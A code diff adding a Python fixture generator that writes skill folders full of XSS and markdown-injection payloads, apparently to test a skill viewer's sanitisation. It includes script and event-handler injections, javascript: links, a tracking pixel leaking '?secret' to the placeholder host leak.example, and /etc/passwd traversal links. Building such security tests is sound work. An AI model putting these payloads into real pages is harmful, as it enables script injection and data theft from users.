@@ -1,0 +1,103 @@
+"""Sixty skills that try to script, style, frame or send away something, each in another way or place.
+
+What would run tells so by a global `hit`, by another title of the page, or by asking `leak.example` for something.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Final
+
+_RUN: Final = "window.hit=1;document.title='hit'"
+_LEAK: Final = "https://leak.example/x"
+MARKUP: Final = (
+    f"<script>{_RUN}</script>",
+    f"</title><script>{_RUN}</script>",
+    f'"><script>{_RUN}</script>',
+    f'\'><img src=x onerror="{_RUN}">',
+    f'<img src="{_LEAK}" onload="{_RUN}">',
+    f'<svg onload="{_RUN}"><circle r="9"/></svg>',
+    f'<iframe srcdoc="<script>parent.hit=1</script>" src="{_LEAK}"></iframe>',
+    f'<object data="{_LEAK}"></object><embed src="{_LEAK}">',
+    "<style>*{display:none!important}</style>",
+    f'<link rel="stylesheet" href="{_LEAK}">',
+    f'<base href="{_LEAK}/">',
+    f'<meta http-equiv="refresh" content="0;url={_LEAK}">',
+    f'<form action="{_LEAK}"><input name=q autofocus onfocus="{_RUN}"></form>',
+    f'<video src="{_LEAK}" onerror="{_RUN}" autoplay></video>',
+    f'<details open ontoggle="{_RUN}">x</details>',
+    f'<math href="javascript:{_RUN}"><mtext>x</mtext></math>',
+    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
+    f"</textarea></pre></code></option></select><script>{_RUN}</script>",
+    f"{{{{ 7*7 }}}}{{% for x in y %}}<script>{_RUN}</script>",
+    f"<!--><script>{_RUN}</script>-->",
+)
+"""Markup that stands for itself; it is put into names, titles, descriptions, tags, arguments and bodies."""
+MARKDOWN: Final = (
+    f"[run](javascript:{_RUN})",
+    f"[run](JaVaScRiPt&colon;{_RUN})",
+    f"[run](\tjavascript:{_RUN})",
+    f"[run](java\\\nscript:{_RUN})",
+    f"[run](data:text/html,<script>{_RUN}</script>)",
+    f"[run](vbscript:{_RUN})",
+    f"<javascript:{_RUN}>",
+    f"[x]: javascript:{_RUN}\n\n[x]",
+    f"![pixel]({_LEAK}?secret)",
+    f'![a]({_LEAK} "t" onerror="{_RUN}")',
+    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
+    "![p](//leak.example/x.png) [q](//leak.example/) [r](\\\\leak.example\\x)",
+    f'```"><script>{_RUN}</script>\nx\n```',
+    f"| a<script>{_RUN}</script> | b |\n|---|:-:|\n| <img src=x onerror={_RUN}> | ![x]({_LEAK}) |",
+    f'[x](https://e.example/"onmouseover="{_RUN})',
+    "[up](../../../../etc/passwd) [ui](/ui/sign-out) [dots](%2e%2e/%2e%2e/x) [q](?fill=1) [f](#main)",
+    "[ok](references/a.md) ![svg](evil.svg) ![html](evil.html) ![png](fake.png)",
+    f'1. <b onclick="{_RUN}">x</b>\n2. `<script>{_RUN}</script>`\n\n    <script>{_RUN}</script>',
+    "a\u200bb\u202ec\u2066d\ufeffe \U000e0041\U000e0042 \u00ad",
+    f'<https://leak.example/"><script>{_RUN}</script>>',
+)
+_SVG: Final = (
+    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script>'
+    f'<foreignObject><iframe src="{_LEAK}"/></foreignObject><image href="{_LEAK}"/></svg>'
+)
+_HTML: Final = f"<!doctype html><title>x</title><script>{_RUN}</script><img src={_LEAK}>"
+
+
+def write(folder: Path) -> list[str]:
+    """Write the skills into a folder. Returns their paths."""
+    texts = [*MARKUP, *MARKDOWN]
+    paths: list[str] = []
+    for number, text in enumerate(texts):
+        paths.append(_skill(folder / f"text-{number:02}", "Does a thing", text, text))
+    for number, text in enumerate(MARKUP[:12]):
+        extra = {
+            "name": text,
+            "title": text,
+            "version": text,
+            "tags": [text],
+            "license": text,
+            text: text,
+            "arguments": [{"name": text.replace("{", ""), "description": text, "default": text}],
+        }
+        paths.append(_skill(folder / f"field-{number:02}", text, "Fine", text, extra))
+    for number, name in enumerate((
+        "<img src=x onerror=window.hit=1>.md", '"onload="window.hit=1".txt', "a' onclick='window.hit=1.png",
+        "x&#34;>.svg", "%2e%2e%2fui.md", "?file=SKILL.md", "#x.md", "javascript:window.hit=1",
+    )):  # fmt: skip
+        paths.append(_skill(folder / f"<b>file-{number}<img src=x onerror=window.hit=1>", "Does a thing", "Fine", name))
+        (folder / paths[-1] / name).write_text(f"<script>{_RUN}</script>", encoding="utf-8")
+    return paths
+
+
+def _skill(place: Path, description: str, body: str, reference: str, extra: dict[str, object] | None = None) -> str:
+    directory, name = place, place.name
+    (directory / "references").mkdir(parents=True)
+    fields = {"name": name, "description": description, **(extra or {})}
+    # JSON is YAML, and needs no quoting of its own.
+    lines = "\n".join(f"{json.dumps(key)}: {json.dumps(value)}" for key, value in fields.items())
+    (directory / "SKILL.md").write_text(f"---\n{lines}\n---\n\n# {body}\n\n{body}\n", encoding="utf-8")
+    (directory / "references" / "a.md").write_text(f"# {reference}\n\n{reference}\n", encoding="utf-8")
+    (directory / "evil.svg").write_text(_SVG, encoding="utf-8")
+    (directory / "evil.html").write_text(_HTML, encoding="utf-8")
+    (directory / "fake.png").write_text(_HTML, encoding="utf-8")
+    return name
